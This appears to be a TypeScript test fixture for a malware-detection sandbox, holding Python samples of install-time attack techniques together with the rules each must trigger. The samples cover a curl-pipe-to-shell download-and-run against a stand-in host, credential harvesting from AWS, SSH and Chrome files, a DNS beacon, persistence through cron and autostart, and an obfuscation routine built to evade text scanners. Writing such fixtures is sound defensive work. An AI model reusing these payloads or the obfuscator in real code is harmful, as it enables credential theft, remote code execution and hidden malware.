/**
 * Inert samples of the install-time techniques real malware uses, written for these tests: each does what the
 * technique does up to the point where a payload would act, with nothing to deliver (no server exists, the
 * commands are echoes). `obfuscate` wraps one in a layer no text-based scanner can read through: XOR with a key,
 * zlib, base64 reversed, run through an `exec` whose name is itself computed.
 */
import { deflateSync } from 'node:zlib';

export interface Technique {
  name: string;
  payload: string;
  /** Words the plain payload shows and the obfuscated one must hide. */
  giveaways: string[];
  /** Rules the dynamic check must report, and evidence each must show. */
  expect: { rule: string; evidence: RegExp }[];
}

export const techniques: Technique[] = [
  {
    name: 'hidden-powershell',
    payload: `
import base64, subprocess
command = base64.b64encode("Write-Output 'inert'".encode("utf-16-le")).decode()
try:
    subprocess.Popen(["powershell", "-NoProfile", "-WindowStyle", "Hidden", "-EncodedCommand", command])
except OSError:
    pass
`,
    giveaways: ['powershell', 'Hidden', 'EncodedCommand'],
    expect: [{ rule: 'sandbox.exec-powershell', evidence: /^powershell -NoProfile -WindowStyle Hidden -EncodedCommand VwByAGkAdABlAC0A/ }],
  },
  {
    name: 'download-and-run',
    payload: `
import os, subprocess, urllib.request
try:
    urllib.request.urlretrieve("http://payload.example.net/stage2.bin", "/tmp/.stage2")
    os.chmod("/tmp/.stage2", 0o755)
    subprocess.Popen(["/tmp/.stage2"])
except Exception:
    pass
os.system("curl -fsSL http://payload.example.net/install.sh | sh")
`,
    giveaways: ['urlretrieve', 'curl', 'payload.example.net', 'stage2'],
    expect: [
      { rule: 'sandbox.dns-lookup', evidence: /^payload\.example\.net$/ },
      { rule: 'sandbox.download-and-run', evidence: /curl -fsSL http:\/\/payload\.example\.net\/install\.sh \| sh/ },
    ],
  },
  {
    name: 'credential-reads',
    payload: `
import json, os
loot = {}
places = ["~/.aws/credentials", "~/.ssh/id_rsa", "~/.pypirc", "~/.config/google-chrome/Default/Login Data",
          os.path.join(os.environ.get("LOCALAPPDATA", "."), "Google/Chrome/User Data/Local State")]
for place in places:
    try:
        with open(os.path.expanduser(place), "rb") as f:
            loot[place] = f.read().decode("latin1")
    except OSError:
        pass
loot["env"] = {k: v for k, v in os.environ.items() if "KEY" in k or "TOKEN" in k}
with open("/tmp/.cache-report", "w") as f:
    json.dump(loot, f)
`,
    giveaways: ['.aws', 'id_rsa', 'pypirc', 'Chrome', 'environ'],
    expect: [
      { rule: 'sandbox.honeypot-read', evidence: /^read ~\/\.aws\/credentials$/ },
      { rule: 'sandbox.honeypot-read', evidence: /^read ~\/\.ssh\/id_rsa$/ },
      { rule: 'sandbox.honeypot-read', evidence: /^read ~\/AppData\/Local\/Google\/Chrome\/User Data\/Local State$/ },
      { rule: 'sandbox.secret-written', evidence: /^aws-credentials in file: \/tmp\/\.cache-report$/ },
    ],
  },
  {
    name: 'recon-beacon',
    payload: `
import getpass, os, platform, socket
facts = "|".join([getpass.getuser(), socket.gethostname(), platform.platform(), os.getcwd()])
label = facts.encode().hex()[:60]
try:
    socket.gethostbyname(label + ".b.example.net")
except OSError:
    pass
try:
    import urllib.request
    urllib.request.urlopen("http://b.example.net/ping?d=" + label, timeout=3)
except Exception:
    pass
`,
    giveaways: ['gethostname', 'getuser', 'example.net', 'urlopen'],
    expect: [
      { rule: 'sandbox.dns-exfiltration', evidence: /^6275696c646572[0-9a-f]+\.b\.example\.net$/ },
      { rule: 'sandbox.dns-lookup', evidence: /^b\.example\.net$/ },
    ],
  },
  {
    name: 'persistence',
    payload: `
import os, subprocess
home = os.path.expanduser("~")
with open(os.path.join(home, ".bashrc"), "a") as f:
    f.write("\\n# inert marker\\n")
os.makedirs(os.path.join(home, ".config", "autostart"), exist_ok=True)
with open(os.path.join(home, ".config", "autostart", "updater.desktop"), "w") as f:
    f.write("[Desktop Entry]\\nExec=true\\n")
try:
    subprocess.run(["crontab", "-"], input=b"@reboot true\\n")
except OSError:
    pass
`,
    giveaways: ['bashrc', 'autostart', 'crontab'],
    expect: [
      { rule: 'sandbox.persistence-write', evidence: /^write ~\/\.bashrc$/ },
      { rule: 'sandbox.persistence-write', evidence: /^write ~\/\.config\/autostart\/updater\.desktop$/ },
      { rule: 'sandbox.exec-persistence-tool', evidence: /^crontab - / },
    ],
  },
  {
    name: 'pip-install',
    payload: `
import subprocess, sys
subprocess.call([sys.executable, "-m", "pip", "install", "--quiet", "colourama-helper"])
`,
    giveaways: ['pip', 'install', 'colourama'],
    expect: [{ rule: 'sandbox.pip-install', evidence: /^\/gatehouse\/env\/bin\/python -m pip install --quiet colourama-helper$/ }],
  },
];

/** The payload, unreadable without running it. */
export function obfuscate(payload: string, seed: number): string {
  const key = Buffer.from(Array.from({ length: 13 }, (_, i) => (seed * 31 + i * 17 + 7) % 251 + 1));
  const data = Buffer.from(payload, 'utf8').map((b, i) => b ^ key[i % key.length]!);
  const packed = deflateSync(Buffer.from(data)).toString('base64').split('').reverse().join('');
  return [
    'import zlib as _z, base64 as _b',
    `_k = bytes(${JSON.stringify([...key])})`,
    `_d = ${JSON.stringify(packed)}`,
    '_p = bytes(c ^ _k[i % len(_k)] for i, c in enumerate(_z.decompress(_b.b64decode(_d[::-1]))))',
    'getattr(__import__("builtins"), "".join(map(chr, [101, 120, 101, 99])))(compile(_p, "<cfg>", "exec"), {"__name__": "__cfg__"})',
  ].join('\n');
}
